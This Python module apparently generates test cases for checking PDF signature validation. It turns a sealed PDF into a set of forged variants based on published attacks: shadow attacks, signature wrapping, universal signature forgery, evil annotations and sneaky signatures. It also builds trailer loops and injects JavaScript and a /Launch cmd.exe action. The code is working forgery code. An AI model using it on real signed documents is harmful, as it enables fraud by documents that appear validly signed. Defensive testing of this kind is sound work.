"""Attacks on a sealed PDF as they were published, made against any of our letters: each a name and the forged bytes.

Families: Shadow Attacks on PDF (Mainka, Mladenov, Rohlmann, NDSS 2021: hide, replace, hide and replace); universal signature
forgery, incremental saving and signature wrapping (Mladenov and others, CCS 2019); evil annotation and sneaky signature on
certified documents (Rohlmann and others, S&P 2021). Beside them what readers differ in: two ends of file, hybrid and doubled
tables, generations, bytes before the head, chains of revisions that go in circles or on for ever, and what a program makes of a
file that it opens and saves: encrypted, linearised, packed and unpacked.
"""

import io
import re
from collections.abc import Iterator, Mapping, Sequence
from typing import Any

import pikepdf

Attack = tuple[str, bytes]
RANGE = re.compile(rb"/ByteRange \[(\d+) (\d+) (\d+) (\d+)\] *")
OVERLAY = b"<</Length 44>>stream\nBT /F1 99 Tf 1 0 0 1 50 400 Tm (9999999) Tj ET    \nendstream"


class Target:
    """A sealed file and the numbers of the objects that attacks go for."""

    def __init__(self, pdf: bytes) -> None:
        self.pdf = pdf
        with pikepdf.open(io.BytesIO(pdf)) as opened:
            self.size, self.root = int(opened.trailer.Size), opened.Root.objgen[0]
            self.info = opened.trailer.Info.objgen[0] if "/Info" in opened.trailer else self.size
            self.catalog = opened.Root.unparse(resolved=True)[:-2]
            self.page = int(opened.pages[0].objgen[0])
            self.page_text = opened.pages[0].obj.unparse(resolved=True)[:-2]
            contents = opened.pages[0].obj.Contents
            self.contents = (contents[0] if isinstance(contents, pikepdf.Array) else contents).objgen[0]
            self.metadata = opened.Root.Metadata.objgen[0]
            self.seal = opened.Root.Perms.DocMDP.objgen[0]
            self.field = opened.Root.AcroForm.Fields[0].objgen[0]
            kinds = [(each, each.objgen[0]) for each in opened.objects if isinstance(each, pikepdf.Dictionary | pikepdf.Stream)]
            self.fonts = [number for each, number in kinds if each.get("/Type") == "/Font"]
            self.file = next(number for each, number in kinds if each.get("/Type") == "/EmbeddedFile")
        self.before = int(re.findall(rb"startxref\s+(\d+)", pdf)[-1])

    def page_with(self, more: bytes) -> dict[int, bytes]:
        """Return the first page with entries more, which come to stand before its own."""
        return {self.page: b"<<" + more + self.page_text[2:] + b">>"}

    def catalog_with(self, more: bytes) -> dict[int, bytes]:
        """Return the catalog with entries more."""
        return {self.root: b"<<" + more + self.catalog[2:] + b">>"}

    def update(self, objects: Mapping[int, bytes], how: str = "table", *, generation: int = 0, root: int | None = None) -> bytes:
        """Return the file with objects appended, by a table, a stream, both (hybrid), an object stream, or no table at all."""
        out, places, within = bytearray(self.pdf), {}, list[int]()
        if how == "packed":
            objects, within = {self.size + 15: _packed(objects)}, list(objects)
        for number, content in objects.items():
            places[number] = len(out)
            out += b"%d %d obj\n%s\nendobj\n" % (number, generation, content)
        head = b"/Size %d/Root %d 0 R/Prev %d" % (self.size + 20, root or self.root, self.before)
        at = len(out)
        rows = b"".join(b"%d 1\n%010d %05d n \n" % (number, place, generation) for number, place in places.items())
        if how == "bare":
            return bytes(out)
        if how == "trailer":
            return bytes(out + b"trailer\n<<%s>>\nstartxref\n%d\n%%%%EOF\n" % (head, at))
        if how in ("stream", "packed"):
            return bytes(out + _stream(self.size + 16, places, head, at, within))
        more = b"/XRefStm %d" % self.before if how == "hybrid" else b""
        return bytes(out + b"xref\n%strailer\n<<%s%s>>\nstartxref\n%d\n%%%%EOF\n" % (rows, head, more, at))


def _packed(objects: Mapping[int, bytes]) -> bytes:
    body, places = b"", []
    for number, content in objects.items():
        places.append(b"%d %d" % (number, len(body)))
        body += content + b" "
    head = b" ".join(places) + b" "
    said = b"<</Type/ObjStm/N %d/First %d/Length %d>>" % (len(objects), len(head), len(head + body))
    return said + b"stream\n" + head + body + b"\nendstream"


def _stream(number: int, places: Mapping[int, int], head: bytes, at: int, within: Sequence[int]) -> bytes:
    rows = {each: b"\1" + place.to_bytes(4) + b"\0" for each, place in {**places, number: at}.items()}
    rows |= {each: b"\2" + (number - 1).to_bytes(4) + bytes([turn]) for turn, each in enumerate(within)}
    content = b"".join(rows.values())
    index = b" ".join(b"%d 1" % each for each in rows)
    said = b"<</Type/XRef/W[1 4 1]/Index[%s]/Length %d%s>>" % (index, len(content), head)
    return b"%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (number, said, content, at)


HOWS = ("table", "stream", "hybrid", "packed", "trailer", "bare")


def updates(target: Target) -> Iterator[Attack]:
    """Yield what is appended after the seal, each change by each form of an update."""
    new = target.size + 1
    boxed = b"<</Type/Annot/Subtype/%s/Rect[50 300 500 700]/Contents(9,999,999.00)/AP<</N %d 0 R>>/F 4>>"
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 450 400]" + OVERLAY[2:]
    script = b"<</S/JavaScript/JS(app.alert(1))>>"
    changes: dict[str, dict[int, bytes]] = {
        "shadow hide: content overlaid": {new: OVERLAY, **target.page_with(b"/Contents[%d 0 R %d 0 R]" % (target.contents, new))},
        "shadow hide: content emptied": {target.contents: b"<</Length 0>>stream\n\nendstream"},
        "shadow replace: font": dict.fromkeys(target.fonts[:1], b"<</Type/Font/Subtype/Type1/BaseFont/Courier>>"),
        "shadow replace: field value": {target.field: b"<</FT/Tx/T(PlumbSeal)/V(9,999,999.00)>>"},
        "shadow hide and replace: pages": {
            new: b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (new + 1),
            new + 1: b"<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R>>" % (new, new + 2),
            new + 2: OVERLAY,
            **target.catalog_with(b"/Pages %d 0 R" % new),
        },
        "signature overridden": {target.seal: b"<</Type/Sig/Filter/Adobe.PPKLite/ByteRange[0 0 0 0]/Contents<00>>>"},
        "signature nulled": {target.seal: b"null"},
        "permissions lifted": target.catalog_with(b"/Perms null/AcroForm null"),
        "information": {target.info: b"<</Title(forged)/Author(forged)>>"},
        "metadata": {target.metadata: b"<</Type/Metadata/Subtype/XML/Length 3>>stream\n<x>\nendstream"},
        "attachment replaced": {target.file: b"<</Type/EmbeddedFile/Length 2>>stream\n{}\nendstream"},
        "attachment hidden": target.catalog_with(b"/Names<<>>/AF[]"),
        "sneaky signature": {
            new: b"<</FT/Sig/T(second)/Type/Annot/Subtype/Widget/Rect[50 300 500 700]/V %d 0 R/AP<</N %d 0 R>>>>"
            % (new + 1, new + 2),
            new + 1: b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 1 2 3]/Contents<00>>>",
            new + 2: form,
            **target.page_with(b"/Annots[%d 0 R]" % new),
        },
        "open action": target.catalog_with(b"/OpenAction" + script),
        "additional actions": target.catalog_with(b"/AA<</WC%s>>" % script),
        "named script": target.catalog_with(b"/Names<</JavaScript<</Names[(a)%s]>>>>" % script),
        "form of XFA": target.catalog_with(b"/AcroForm<</Fields[]/XFA(<x/>)>>"),
        "launched program": target.catalog_with(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        "collection": target.catalog_with(b"/Collection<</View/T>>"),
        "optional content": target.catalog_with(b"/OCProperties<</OCGs[]/D<</OFF[%d 0 R]>>>>" % target.contents),
    }
    for kind in (b"FreeText", b"Stamp", b"Redact", b"Square", b"Link", b"Widget"):
        name = f"evil annotation: {kind.decode()}"
        changes[name] = {new: boxed % (kind, new + 1), new + 1: form, **target.page_with(b"/Annots[%d 0 R]" % new)}
    for name, objects in changes.items():
        for how in HOWS:
            yield f"{name}, {how}", target.update(objects, how)
    for generation in (1, 2, 65535):
        yield f"generation {generation}", target.update({target.contents: OVERLAY}, generation=generation)
    yield "another root", target.update({new: b"<</Type/Catalog/Pages<</Kids[]/Count 0>>>>"}, root=new)


def forged_ranges(target: Target) -> Iterator[Attack]:
    """Yield universal forgeries: another /ByteRange or /Contents in the place of the sealed one, at its length and beyond it."""
    found = list(RANGE.finditer(target.pdf))[-1]
    _, start, end, rest = (int(each) for each in found.groups())
    size = len(target.pdf)
    values: Mapping[str, bytes] = {
        "gone": b"",
        "null": b"/ByteRange null",
        "empty": b"/ByteRange []",
        "nought": b"/ByteRange [0 0 0 0]",
        "negative": b"/ByteRange [0 %d %d -%d]" % (start, end, rest),
        "negative start": b"/ByteRange [-1 %d %d %d]" % (start, end, rest),
        "huge": b"/ByteRange [0 %d %d 99999999999]" % (start, end),
        "reference": b"/ByteRange [0 %d 9 0 R %d]" % (start, rest),
        "by reference": b"/ByteRange 9 0 R",
        "reals": b"/ByteRange [0.0 %d.0 %d %d]" % (start, end, rest),
        "three": b"/ByteRange [0 %d %d]" % (start, end),
        "five": b"/ByteRange [0 %d %d %d 0]" % (start, end, rest),
        "overlap": b"/ByteRange [0 %d %d %d]" % (size, start, size - start),
        "gap": b"/ByteRange [0 %d %d %d]" % (start - 40, end, rest),
        "wider gap": b"/ByteRange [0 %d %d %d]" % (start, end + 8, rest - 8),
        "short": b"/ByteRange [0 %d %d %d]" % (start, end, rest - 20),
        "whole": b"/ByteRange [0 %d %d 0]" % (size, size),
        "swapped": b"/ByteRange [%d %d 0 %d]" % (end, rest, start),
        "doubled": b"/ByteRange[0 1 2 3]/ByteRange [0 1 2 3]",
    }
    for name, value in values.items():
        yield f"range {name}", target.pdf[: found.start()] + value.ljust(len(found[0])) + target.pdf[found.end() :]
    for name, said in {"null": b"null", "nothing": b"<>", "nought": b"<00>", "text": b"()", "reference": b"9 0 R"}.items():
        yield f"contents {name}", target.pdf[:start] + said.ljust(end - start) + target.pdf[end:]
        yield f"contents {name}, shortened", target.pdf[:start] + said + target.pdf[end:]
    yield "contents twice", target.pdf[:start] + b"<00>/Contents" + target.pdf[start:]
    filter_at = target.pdf.rindex(b"ETSI.CAdES.detached")
    for other in ("adbe.x509.rsa_sha1", "adbe.pkcs7.sha1", "Unknown"):
        yield f"filter {other}", target.pdf[:filter_at] + other.encode().ljust(19) + target.pdf[filter_at + 19 :]


def wrapped(target: Target) -> Iterator[Attack]:
    """Yield signature wrappings: the second signed part moved behind what nobody signed, within the gap or after it."""
    found = list(RANGE.finditer(target.pdf))[-1]
    _, start, end, rest = (int(each) for each in found.groups())
    evil = b"\n%d 0 obj\n%s\nendobj\n" % (target.contents, OVERLAY)
    for name, room in (
        ("objects", evil),
        ("a dictionary", b">>\nendobj\n" + evil),
        ("spaces", b" " * 99),
        ("noughts", b"\0" * 50),
    ):
        for place, at in (("before the digits", start), ("in the digits", start + 201), ("after the digits", end)):
            body = target.pdf[:at] + room + target.pdf[at:]
            yield f"wrapped: {name} {place}", body
            moved = b"/ByteRange [0 %d %d %d]" % (start, end + len(room), rest)
            yield f"wrapped, range moved: {name} {place}", RANGE.sub(moved.ljust(len(found[0])), body)


def edges(target: Target) -> Iterator[Attack]:
    """Yield bytes before the head and after the end, and ends that are said twice."""
    heads = (b"\n", b" ", b"\xef\xbb\xbf", b"%PDF-1.4\n", b"junk\n" * 20, b"<script>alert(1)</script>\n", b"\0" * 64, b"PK\3\4")
    yield from ((f"before the head: {head[:9]!r}", head + target.pdf) for head in heads)
    start = b"startxref\n%d\n%%%%EOF\n" % target.before
    tails = (
        b"\n",
        b"\r\n",
        b" ",
        b"\0",
        b"%%EOF\n",
        start,
        b"startxref\n0\n%%EOF\n",
        b"% a remark\n",
        b"\x1a",
        target.pdf,
        OVERLAY,
    )
    yield from ((f"after the end: {tail[:12]!r}", target.pdf + tail) for tail in tails)
    yield from ((f"{cut} bytes short", target.pdf[:-cut]) for cut in (1, 2, 6, 7, 30, 1000))


def trailers(target: Target) -> Iterator[Attack]:
    """Yield ends that send a reader in circles, out of the file, through 10,000 revisions, or past what it can decrypt."""
    at, locked = len(target.pdf), b"/Encrypt<</Filter/Standard/V 1/R 2/O<%s>/U<%s>/P -4>>" % (b"00" * 32, b"00" * 32)
    says: Mapping[str, tuple[int, bytes]] = {
        "itself before it": (at, b""),
        "a place before the file": (-1, b""),
        "a place behind the file": (10**12, b""),
        "itself as its stream": (target.before, b"/XRefStm %d" % at),
        "a password that is none": (target.before, locked),
        "a lock of its own": (target.before, b"/Encrypt<</Filter/Own>>"),
    }
    for name, (before, more) in says.items():
        yield f"trailer: {name}", target.pdf + _end(target, at, before, more)
    other = at + len(_end(target, at, at, b""))
    yield "trailer: two in a circle", target.pdf + _end(target, at, other, b"") + _end(target, other, at, b"")
    ends, before = bytearray(target.pdf), target.before
    for _ in range(10_000):
        ends += _end(target, (place := len(ends)), before, b"")
        before = place
    yield "trailer: ten thousand revisions", bytes(ends)


def _end(target: Target, at: int, before: int, more: bytes) -> bytes:
    said = b"xref\n0 0\ntrailer\n<</Size %d/Root %d 0 R/Prev %d%s>>\nstartxref\n%d\n%%%%EOF\n"
    return said % (target.size, target.root, before, more, at)


def saved(target: Target) -> Iterator[Attack]:
    """Yield what another program makes of the file when it saves it, each by what it was asked for."""
    hows: Mapping[str, Mapping[str, Any]] = {
        "encrypted, for everybody": {"encryption": pikepdf.Encryption(owner="o", user="")},
        "encrypted, by a password": {"encryption": pikepdf.Encryption(owner="o", user="u")},
        "encrypted, as of old": {"encryption": pikepdf.Encryption(owner="o", user="", R=3, aes=False, metadata=False)},
        "linearised": {"linearize": True},
        "objects packed": {"object_stream_mode": pikepdf.ObjectStreamMode.generate},
        "objects unpacked": {"object_stream_mode": pikepdf.ObjectStreamMode.disable},
        "streams unpacked": {"compress_streams": False, "stream_decode_level": pikepdf.StreamDecodeLevel.all},
    }
    for name, how in hows.items():
        out = io.BytesIO()
        with pikepdf.open(io.BytesIO(target.pdf)) as opened:
            opened.save(out, **how)
        yield f"saved: {name}", out.getvalue()


def attacks(pdf: bytes) -> Iterator[Attack]:
    """Yield every attack against a sealed file."""
    target = Target(pdf)
    for family in (updates, forged_ranges, wrapped, edges, trailers, saved):
        yield from family(target)
